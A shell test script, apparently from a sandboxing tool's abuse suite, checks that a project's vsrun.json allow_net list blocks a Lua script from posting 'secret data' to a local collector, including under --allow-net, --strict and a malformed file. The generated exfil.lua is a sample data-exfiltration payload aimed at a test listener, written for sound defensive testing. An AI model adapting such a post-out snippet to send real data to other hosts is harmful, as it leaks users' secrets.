# A project's allow_net (vsrun.json) narrows what http may reach and never grants: a
# script in a project that allows only example.com cannot post to another host, with or
# without --allow-net; under --strict a project that lists a host does not replace the
# command line's --allow-net (the project file comes with the code). The far end records
# every byte it receives; the control posts from a project that allows it.
. "$(dirname "$0")/../cli/lib.sh"
FAR_PIDS=()
trap 'for p in "${FAR_PIDS[@]}"; do kill "$p" 2>/dev/null; done; rm -rf "$TMP"' EXIT
unset VSRUN_ALLOW_NET http_proxy https_proxy
mkdir -p "$TMP/far"
python3 tests/abuse/far_end.py "$TMP/far" &
FAR_PIDS+=("$!")
for _ in $(seq 200); do [ -s "$TMP/far/port" ] && break; sleep 0.05; done
FAR_PORT=$(cat "$TMP/far/port")
received() { cat "$TMP/far"/conn-* 2>/dev/null | grep -ac "POST /collect"; }

for p in narrow open; do
    mkdir -p "$TMP/$p"
    printf 'return require("http").post("http://127.0.0.1:%s/collect", { json = { incident = "secret data" } }).status\n' \
        "$FAR_PORT" >"$TMP/$p/exfil.lua"
done
printf '{ "allow_net": ["example.com"] }\n' >"$TMP/narrow/vsrun.json"
printf '{ "allow_net": ["127.0.0.1:%s"] }\n' "$FAR_PORT" >"$TMP/open/vsrun.json"

run "$TMP/open/exfil.lua"
expect "control: a project that lists the host posts" 0 '^200$'
[ "$(received)" = 1 ] && echo "ok the far end counts what reaches it (control)" || _fail "control: far end" "got $(received)"

run "$TMP/narrow/exfil.lua"
expect "the project's allow_net refuses other hosts" 4 '' "not in the project's allow_net \(vsrun.json\)"
run --allow-net "127.0.0.1:$FAR_PORT" "$TMP/narrow/exfil.lua"
expect "--allow-net does not widen the project's allow_net" 4 '' "not in the project's allow_net"
run --strict "$TMP/open/exfil.lua"
expect "--strict: the project's allow_net grants nothing" 4 '' 'not allowed under --strict'
[ "$(received)" = 1 ] && echo "ok nothing else reached the far end" || _fail "project allow_net" "the far end got $(received) posts"

printf '{ "allow_net": "127.0.0.1" }\n' >"$TMP/narrow/vsrun.json"
run "$TMP/narrow/exfil.lua"
expect "a malformed allow_net is an error, not an open door" 1 '' 'allow_net must be a non-empty list'
[ "$(received)" = 1 ] && echo "ok a malformed project file sends nothing" || _fail "malformed allow_net" "the far end got $(received) posts"
